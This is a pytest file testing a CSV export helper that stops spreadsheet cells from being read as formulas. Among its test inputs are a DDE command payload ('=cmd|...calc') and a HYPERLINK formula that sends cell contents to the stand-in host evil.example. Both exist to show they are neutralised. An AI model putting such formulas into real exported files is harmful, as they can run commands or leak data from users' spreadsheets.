"""CSV for spreadsheets: no cell is executed as a formula."""

import csv
import io

import pytest

from pipelines.spreadsheet import csv_lines, without_guard


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1", "-1", "@SUM(A1)", "\t1", "\r1", "\n1", "  =1", "\u00a0=1", "＝1", "=cmd|' /C calc'!A0", "-"],
)
def test_what_begins_like_a_formula_is_text(text: str) -> None:
    _, line = csv_lines(["question"], [[text]])
    assert next(csv.reader(io.StringIO(line, newline=""))) == [f"'{text}"]


def test_other_cells_are_as_they_were_and_lines_are_made_one_at_a_time() -> None:
    rows = iter([["Где мой заказ, «Опора»?", -3, None, 0.5, "a\nb"]])
    lines = csv_lines(["question", "csat", "nothing", "share", "two"], rows)
    assert next(lines) == "\ufeffquestion,csat,nothing,share,two\r\n"
    assert next(lines) == '"Где мой заказ, «Опора»?",-3,,0.5,"a\nb"\r\n'
    assert list(lines) == []


FORMULA = '=HYPERLINK("http://evil.example/"&A1)'


@pytest.mark.parametrize(
    "before", ["Где заказ?;", "Где заказ?; ", "Где заказ?\n", "Где заказ?\r\n", "a\t", 'a;"', ";;"]
)
def test_no_text_becomes_a_formula_in_another_cell(before: str) -> None:
    file = "".join(csv_lines(["question", "answer"], [["Да", f"{before}{FORMULA}"]])).lstrip("\ufeff")
    rows = [row for by in ";\t" for row in csv.reader(io.StringIO(file, newline=""), delimiter=by)]
    assert not [cell for row in rows for cell in row if cell.lstrip(' "').startswith("=")]


def test_an_exported_text_comes_back_unchanged() -> None:
    text = "= 5 °C; -5 °C;\n- фильтр\n+7 900"
    _, line = csv_lines(["answer"], [[text]])
    [[cell]] = csv.reader(io.StringIO(line, newline=""))
    assert cell != text
    assert without_guard(cell) == text
